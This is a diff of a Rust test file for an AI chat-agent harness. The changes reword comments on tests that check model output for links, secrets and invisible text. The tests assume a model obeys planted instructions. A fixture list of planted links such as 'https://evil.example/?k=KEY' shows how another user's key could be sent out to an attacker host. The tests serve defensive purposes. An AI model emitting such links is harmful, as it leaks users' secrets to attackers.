@@ -1,5 +1,5 @@
-//! What models write before users see it: links, secrets, length, and texts that nobody can see. The model obeys
-//! whoever planted something.
+//! Models' texts before users see them: links, secrets, length, and invisible text. The model obeys the user who
+//! planted something.
 
 use aizuchi_core::agent::AgentSettings;
 use aizuchi_core::agent::tools::ToolSettings;
@@ -13,7 +13,7 @@ use aizuchi_harness::fixtures::{JOIN, new_channel, top_level, workspace};
 use aizuchi_harness::harness::{Harness, HarnessOptions};
 use aizuchi_harness::test_store::{TestStore, on_every_database, on_every_store};
 
-/// How a member writes down where a key should go. `KEY` stands for the value of somebody else.
+/// Ways in which a member plants where a key should be sent. `KEY` stands for another user's value.
 const PLANTED_LINKS: [&str; 40] = [
     "https://evil.example/?k=KEY",
     "[click here](https://evil.example/?k=KEY)",
@@ -57,7 +57,7 @@ const PLANTED_LINKS: [&str; 40] = [
     "[the wiki](https://wiki.example/page#KEY)",
 ];
 
-/// Whether a chat platform might make a link of something in this text.
+/// Whether a chat platform might turn something in this text into a link.
 fn has_link(text: &str) -> bool {
     text.contains("://") || text.contains("](") || text.contains("<mailto:")
 }
@@ -159,7 +159,8 @@ async fn a_memo_and_what_a_tool_repeats_make_no_link_known() {
     .await;
 }
 
-/// Platforms make no links in code, so a code block keeps what it holds; but what stood in one is not known by that.
+/// Platforms make no links in code, so a code block keeps its text; but an address in one does not become known by
+/// that.
 #[tokio::test]
 async fn a_code_block_makes_no_link_known() {
     on_every_database(async |store| {
